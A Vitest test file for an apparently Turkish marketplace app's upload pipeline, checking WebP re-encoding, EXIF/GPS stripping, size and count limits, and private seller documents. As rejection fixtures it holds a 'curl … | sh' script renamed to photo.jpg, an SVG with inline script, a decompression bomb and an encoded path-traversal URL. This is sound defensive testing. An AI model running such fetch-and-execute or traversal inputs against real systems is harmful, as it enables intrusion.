import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { formatMessages } from '@otousta/shared/messages/tr';
import { imageVariant } from '@otousta/shared/text/image-url';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type App, buildApp } from '../app.js';
import { loadConfig } from '../config.js';
import type { Database } from '../db/client.js';
import { openTestDatabase } from '../test/databases.js';
import { decompressionBombPng, testImage } from '../test/images.js';
import { type MultipartFilePart, multipart } from '../test/multipart.js';

const webpMagic = (bytes: Buffer) =>
  bytes.subarray(0, 4).toString('latin1') === 'RIFF' && bytes.subarray(8, 12).toString('latin1') === 'WEBP';

const photo = (buffer: Buffer, filename = 'photo.jpg', contentType = 'image/jpeg'): MultipartFilePart => ({
  field: 'photos',
  filename,
  contentType,
  buffer,
});

describe('media: every upload is sniffed, limited and re-encoded', () => {
  let app: App;
  let uploadDir: string;
  let database: Database;

  beforeAll(async () => {
    uploadDir = mkdtempSync(join(tmpdir(), 'otousta-media-'));
    const config = loadConfig({ NODE_ENV: 'test', LOG_LEVEL: 'silent', UPLOAD_DIR: uploadDir, SEED_DEMO: 'false' });
    // Uploads never touch the database; PGlite in memory keeps the app self-contained even with DATABASE_URL set.
    const embedded = { ...config, DATABASE_URL: undefined, DATA_DIR: ':memory:' };
    database = openTestDatabase(embedded);
    await database.migrate();
    app = await buildApp(embedded, { database, logger: false });
    // Routes that exist only in this test, the way feature routes use the media module.
    app.post('/test/photos', async (request) => {
      const { json, files } = await app.media.readUpload(request, {
        fileField: 'photos',
        maxFiles: 3,
        jsonField: 'userData',
      });
      return { json, urls: await app.media.saveImages(files) };
    });
    app.post('/test/documents', async (request) => {
      const { files } = await app.media.readUpload(request, {
        fileField: ['license', 'taxCertificate'],
        maxFiles: 2,
        kind: 'document',
      });
      return { keys: await Promise.all(files.map((file) => app.media.saveDocument(file))) };
    });
    app.delete('/test/photos', async (request) => {
      await app.media.deleteImage((request.query as { url: string }).url);
      return { ok: true };
    });
    await app.ready();
  });

  afterAll(async () => {
    await app.close();
    await database.close();
    rmSync(uploadDir, { recursive: true, force: true });
  });

  const upload = (body: Parameters<typeof multipart>[0], url = '/test/photos') =>
    app.inject({ method: 'POST', url, ...multipart(body) });

  const stored = (url: string) => readFileSync(join(uploadDir, 'images', url.replace('/uploads/', '')));

  it('re-encodes a PNG and a JPEG to WebP with a card and a thumbnail copy', async () => {
    const png = await testImage({ width: 2400, height: 1200, format: 'png' });
    const jpeg = await testImage({ width: 800, height: 600, format: 'jpeg' });
    const res = await upload({
      fields: { userData: JSON.stringify({ firstName: 'Ayşe' }) },
      files: [photo(png, 'dukkan.png', 'image/png'), photo(jpeg)],
    });
    expect(res.statusCode).toBe(200);
    const { json, urls } = res.json() as { json: unknown; urls: string[] };
    expect(json).toEqual({ firstName: 'Ayşe' });
    expect(urls).toHaveLength(2);
    for (const url of urls) expect(url).toMatch(/^\/uploads\/[0-9a-f-]{36}\.webp$/);

    const main = stored(urls[0]!);
    expect(webpMagic(main)).toBe(true);
    expect(await sharp(main).metadata()).toMatchObject({ format: 'webp', width: 1600, height: 800 });
    const card = await sharp(stored(imageVariant(urls[0]!, 'card'))).metadata();
    expect(card).toMatchObject({ format: 'webp', width: 640, height: 320 });
    const thumb = await sharp(stored(imageVariant(urls[0]!, 'thumb'))).metadata();
    expect(thumb).toMatchObject({ format: 'webp', width: 200, height: 100 });
    // A small photo is never enlarged.
    expect(await sharp(stored(urls[1]!)).metadata()).toMatchObject({ width: 800, height: 600 });
  });

  it('accepts GIF and WebP photos and stores them as WebP', async () => {
    const gif = await testImage({ format: 'gif' });
    const webp = await testImage({ format: 'webp' });
    const res = await upload({ files: [photo(gif, 'a.gif', 'image/gif'), photo(webp, 'b.webp', 'image/webp')] });
    expect(res.statusCode).toBe(200);
    for (const url of res.json().urls as string[]) expect(webpMagic(stored(url))).toBe(true);
  });

  it('strips EXIF with the GPS position and turns the photo upright', async () => {
    const withGps = await sharp({ create: { width: 300, height: 100, channels: 3, background: '#888' } })
      .jpeg()
      .withMetadata({ orientation: 6 })
      .withExifMerge({
        IFD0: { Make: 'Telefon', Model: 'X1' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '41/1 0/1 30/1', GPSLongitudeRef: 'E', GPSLongitude: '29/1 1/1 0/1' },
      })
      .toBuffer();
    const before = await sharp(withGps).metadata();
    expect(before.orientation).toBe(6);
    // The GPS IFD pointer (tag 0x8825, little-endian) is really in the input.
    expect(before.exif?.includes(Buffer.from([0x25, 0x88]))).toBe(true);

    const res = await upload({ files: [photo(withGps)] });
    expect(res.statusCode).toBe(200);
    const [url] = res.json().urls as string[];
    for (const copy of [url!, imageVariant(url!, 'card'), imageVariant(url!, 'thumb')]) {
      const after = await sharp(stored(copy)).metadata();
      expect(after.exif).toBeUndefined();
      expect(after.xmp).toBeUndefined();
      expect(after.orientation).toBeUndefined();
    }
    const main = await sharp(stored(url!)).metadata();
    expect([main.width, main.height]).toEqual([100, 300]);
    expect(stored(url!).includes(Buffer.from('Telefon'))).toBe(false);
  });

  it('refuses a program renamed to photo.jpg, whatever the declared type (415)', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(512, 0x90)]);
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');
    for (const buffer of [elf, script]) {
      const res = await upload({ files: [photo(buffer, 'photo.jpg', 'image/jpeg')] });
      expect(res.statusCode).toBe(415);
      expect(res.json()).toMatchObject({
        code: 'UNSUPPORTED_MEDIA_TYPE',
        message: 'Sadece JPG, PNG, GIF ve WebP dosyaları kabul edilir',
      });
    }
    expect(readdirSync(uploadDir).includes('images') ? readdirSync(join(uploadDir, 'images')) : []).not.toContainEqual(
      expect.stringMatching(/\.jpg$/),
    );
  });

  it('refuses an SVG, which could carry script, even with an image type', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    const res = await upload({ files: [photo(svg, 'logo.svg', 'image/svg+xml')] });
    expect(res.statusCode).toBe(415);
  });

  it('refuses a file over 5 MB with its name in the message (413)', async () => {
    const big = Buffer.concat([await testImage(), Buffer.alloc(6 * 1024 * 1024, 1)]);
    const res = await upload({ files: [photo(big, 'buyuk-foto.jpg')] });
    expect(res.statusCode).toBe(413);
    expect(res.json()).toMatchObject({ code: 'FILE_TOO_LARGE', message: formatMessages.fileTooBig('buyuk-foto.jpg') });
  });

  it('refuses more photos than the route allows (400) and stores none of them', async () => {
    const jpeg = await testImage();
    const before = readdirSync(join(uploadDir, 'images')).length;
    for (const count of [4, 6]) {
      const res = await upload({ files: Array.from({ length: count }, (_, i) => photo(jpeg, `${i}.jpg`)) });
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ code: 'TOO_MANY_PHOTOS', message: formatMessages.tooManyPhotos(3) });
    }
    expect(readdirSync(join(uploadDir, 'images'))).toHaveLength(before);
  });

  it('answers a refused upload over a real connection once the whole body has arrived', async () => {
    const address = await app.listen({ host: '127.0.0.1', port: 0 });
    const jpeg = await testImage({ width: 1200, height: 900 });
    const padded = Buffer.concat([jpeg, Buffer.alloc(1024 * 1024, 3)]);
    const tooMany = new FormData();
    for (let i = 0; i < 5; i++) tooMany.append('photos', new Blob([padded], { type: 'image/jpeg' }), `${i}.jpg`);
    const res = await fetch(`${address}/test/photos`, { method: 'POST', body: tooMany });
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({ code: 'TOO_MANY_PHOTOS' });

    const tooBig = new FormData();
    tooBig.append('photos', new Blob([Buffer.alloc(6 * 1024 * 1024, 1)], { type: 'image/jpeg' }), 'koca.jpg');
    const big = await fetch(`${address}/test/photos`, { method: 'POST', body: tooBig });
    expect(big.status).toBe(413);
    expect(await big.json()).toMatchObject({ message: formatMessages.fileTooBig('koca.jpg') });
  });

  it('refuses a decompression bomb before decoding it', async () => {
    const bomb = await decompressionBombPng();
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const res = await upload({ files: [photo(bomb, 'bomb.png', 'image/png')] });
    expect(res.statusCode).toBe(413);
    expect(res.json()).toMatchObject({ code: 'IMAGE_TOO_LARGE' });
  });

  it('refuses a file that starts like a JPEG but is not one (400)', async () => {
    const broken = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(2000, 7)]);
    const res = await upload({ files: [photo(broken)] });
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ code: 'INVALID_IMAGE' });
  });

  it('answers broken JSON, a wrong file field and a non-multipart body with 400', async () => {
    const jpeg = await testImage();
    const badJson = await upload({ fields: { userData: '{"firstName":' }, files: [photo(jpeg)] });
    expect(badJson.statusCode).toBe(400);
    expect(badJson.json()).toMatchObject({ code: 'VALIDATION' });

    const wrongField = await upload({ files: [{ ...photo(jpeg), field: 'avatar' }] });
    expect(wrongField.statusCode).toBe(400);

    const json = await app.inject({ method: 'POST', url: '/test/photos', payload: { photos: [] } });
    expect(json.statusCode).toBe(400);
    expect(json.json()).toMatchObject({ code: 'VALIDATION' });
  });

  it('serves a stored photo as WebP with long cache and nosniff headers', async () => {
    const res = await upload({ files: [photo(await testImage())] });
    const [url] = res.json().urls as string[];
    for (const path of [url!, imageVariant(url!, 'card'), imageVariant(url!, 'thumb')]) {
      const served = await app.inject({ method: 'GET', url: path });
      expect(served.statusCode).toBe(200);
      expect(served.headers['content-type']).toBe('image/webp');
      expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
      expect(served.headers['x-content-type-options']).toBe('nosniff');
      expect(webpMagic(served.rawPayload)).toBe(true);
    }
  });

  it('serves nothing the pipeline did not write', async () => {
    const docs = await upload(
      { files: [{ field: 'license', filename: 'ruhsat.pdf', contentType: 'application/pdf', buffer: pdf() }] },
      '/test/documents',
    );
    const [key] = docs.json().keys as string[];
    for (const path of [
      `/uploads/${key}`,
      '/uploads/%2e%2e%2fpackage.json',
      '/uploads/00000000-0000-4000-8000-000000000000.webp',
      '/uploads/documents/x.pdf',
    ]) {
      const res = await app.inject({ method: 'GET', url: path });
      expect(res.statusCode, path).toBe(404);
      expect(res.headers['content-type']).toMatch(/json/);
    }
  });

  it('deletes a photo with its copies and ignores URLs that are not stored photos', async () => {
    const res = await upload({ files: [photo(await testImage())] });
    const [url] = res.json().urls as string[];
    await app.inject({ method: 'DELETE', url: `/test/photos?url=${encodeURIComponent(url!)}` });
    for (const path of [url!, imageVariant(url!, 'card'), imageVariant(url!, 'thumb')]) {
      expect((await app.inject({ method: 'GET', url: path })).statusCode).toBe(404);
    }
    const ignored = await app.inject({ method: 'DELETE', url: '/test/photos?url=/placeholder.jpg' });
    expect(ignored.statusCode).toBe(200);
  });

  it('keeps seller documents private: PDF as sent, photos re-encoded without metadata', async () => {
    const scan = await sharp({ create: { width: 120, height: 80, channels: 3, background: '#fff' } })
      .jpeg()
      .withExif({ IFD0: { Make: 'Tarayici' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '39/1 55/1 0/1' } })
      .toBuffer();
    const res = await upload(
      {
        files: [
          { field: 'license', filename: 'ruhsat.pdf', contentType: 'application/pdf', buffer: pdf() },
          { field: 'taxCertificate', filename: 'levha.jpg', contentType: 'image/jpeg', buffer: scan },
        ],
      },
      '/test/documents',
    );
    expect(res.statusCode).toBe(200);
    const [pdfKey, scanKey] = res.json().keys as string[];
    expect(pdfKey).toMatch(/^[0-9a-f-]{36}\.pdf$/);
    expect(scanKey).toMatch(/^[0-9a-f-]{36}\.jpg$/);
    expect(readdirSync(join(uploadDir, 'documents'))).toEqual(expect.arrayContaining([pdfKey, scanKey]));

    const readBack = await app.media.readDocument(pdfKey!);
    expect(readBack?.contentType).toBe('application/pdf');
    const chunks: Buffer[] = [];
    for await (const chunk of readBack!.body) chunks.push(chunk as Buffer);
    expect(Buffer.concat(chunks).equals(pdf())).toBe(true);
    expect((await sharp(readFileSync(join(uploadDir, 'documents', scanKey!))).metadata()).exif).toBeUndefined();

    await app.media.deleteDocument(pdfKey!);
    expect(await app.media.readDocument(pdfKey!)).toBeUndefined();
    expect(await app.media.readDocument('../images/x.webp')).toBeUndefined();
  });

  it('refuses a seller document that is neither PDF nor JPG/PNG', async () => {
    const gif = await testImage({ format: 'gif' });
    const res = await upload(
      { files: [{ field: 'license', filename: 'x.gif', contentType: 'image/gif', buffer: gif }] },
      '/test/documents',
    );
    expect(res.statusCode).toBe(415);
    expect(res.json()).toMatchObject({
      code: 'UNSUPPORTED_DOCUMENT_TYPE',
      message: 'Sadece PDF, JPG, PNG formatında dosya yükleyebilirsiniz.',
    });
  });
});

/** The smallest well-formed PDF: one empty page. */
function pdf(): Buffer {
  return Buffer.from(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
      '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  );
}
